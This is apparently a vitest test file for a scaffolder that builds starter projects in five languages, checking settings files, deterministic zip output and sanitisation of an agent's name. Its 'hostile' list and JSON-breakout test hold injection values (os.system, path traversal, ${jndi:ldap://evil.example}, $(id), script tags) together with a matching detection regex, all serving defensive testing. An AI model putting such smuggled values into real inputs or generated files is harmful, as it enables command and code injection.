import { unzipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { type Language, projectFor, zipOf } from "./scaffold.ts";

const languages: readonly Language[] = ["typescript", "python", "go", "java", "rust"];
const packageOf = {
  typescript: "package.json",
  python: "pyproject.toml",
  go: "go.mod",
  java: "pom.xml",
  rust: "Cargo.toml",
} as const;

const project = (language: Language, name = "Résumé screener", scopes: readonly string[] = ["agents:read"]) =>
  projectFor(language, {
    apiUrl: "https://remit.example",
    agentId: "agt_01k0000000e8r8000000000000",
    name,
    scopes,
  });

describe.each(languages)("the project in %s", (language) => {
  test("has a package, an example of its settings, what git ignores, a README and its source", () => {
    const files = project(language);
    const names = Object.keys(files);
    expect(names).toEqual(
      expect.arrayContaining([packageOf[language], ".env.example", ".gitignore", "README.md"]),
    );
    expect(names.filter((name) => name.startsWith("src/")).length).toBeGreaterThanOrEqual(2);
    expect(names.includes("tsconfig.json")).toBe(language === "typescript");
    expect(files[".env.example"]).toBe(`# Copy to .env, which git ignores.
AGENTIDP_API_URL=https://remit.example
AGENTIDP_CLIENT_ID=agt_01k0000000e8r8000000000000
AGENTIDP_CLIENT_SECRET=
AGENTIDP_SCOPE="agents:read"
`);
    expect(files[".gitignore"]?.split("\n")).toContain(".env");
    expect(project(language, "x", [])["README.md"]).toContain("write it after `AGENTIDP_SCOPE=`");
  });

  test("is the same bytes whenever it is made", () => {
    const [one, other] = [zipOf(project(language)), zipOf(project(language))];
    expect(Buffer.from(one).equals(Buffer.from(other))).toBe(true);
    const names = Object.keys(unzipSync(one));
    expect(names).toEqual(names.toSorted());
    expect(names.toSorted()).toEqual(Object.keys(project(language)).toSorted());
  });

  const hostile = [
    '"; import os; os.system("id") #',
    "../../../etc/cron.d/evil",
    "C:\\windows\\evil.exe",
    "*/ process.exit(1) /*",
    "a\nAGENTIDP_API_URL=https://evil.example",
    "a\r\n[dependencies]\nevil = '1'",
    "</description><dependency>evil</dependency>",
    "${jndi:ldap://evil.example/x} $(id) `id`",
    "[click](javascript:alert(1)) <script>alert(1)</script> ![](https://evil.example/x.png)",
    "\u202egnp.elif\u2028second line\u0000\u007f",
    "# A heading\u0085- a list",
    "💥".repeat(200),
    "   ",
    "-- -rf",
  ];
  test("V06 an agent's name is a name, whatever it is: no path, no code, no setting, no link", () => {
    const plain = project(language, "Plain");
    for (const name of hostile) {
      const files = project(language, name);
      expect(Object.keys(files)).toEqual(Object.keys(plain));
      for (const [file, content] of Object.entries(files)) {
        const isCode = file.startsWith("src/") || file.startsWith(".") || file === "tsconfig.json";
        if (isCode) expect(content, file).toBe(plain[file]);
        const isText = file === "package.json" || file === "pyproject.toml";
        if (!isText)
          expect(content, file).not.toMatch(
            /evil\.example|javascript:|<script|<dependency|\[dependencies\]\nevil|\$\(id\)|`id`/,
          );
      }
      const [heading = ""] = (files["README.md"] ?? "").split("\n");
      expect(files["README.md"]?.split("\n").length).toBe(plain["README.md"]?.split("\n").length);
      expect(heading).toMatch(/^# [^\p{C}`<>[\]]+$/u);
      expect(files[packageOf[language]]?.split("\n").length).toBe(
        plain[packageOf[language]]?.split("\n").length,
      );
      const slug = /agent-[a-z0-9-]*/.exec(files[packageOf[language]] ?? "")?.[0];
      expect(slug).toMatch(/^agent-[a-z0-9](?:[a-z0-9-]{0,38}[a-z0-9])?$/);
    }
  });
});

test("V06 what a package says of its agent is one text", () => {
  const name = '"}, "scripts": {"start": "id"}, "x": {"y": "';
  const { description, scripts } = JSON.parse(project("typescript", name)["package.json"] ?? "");
  expect(description).toBe(name);
  expect(scripts.start).toMatch(/^node /);
});
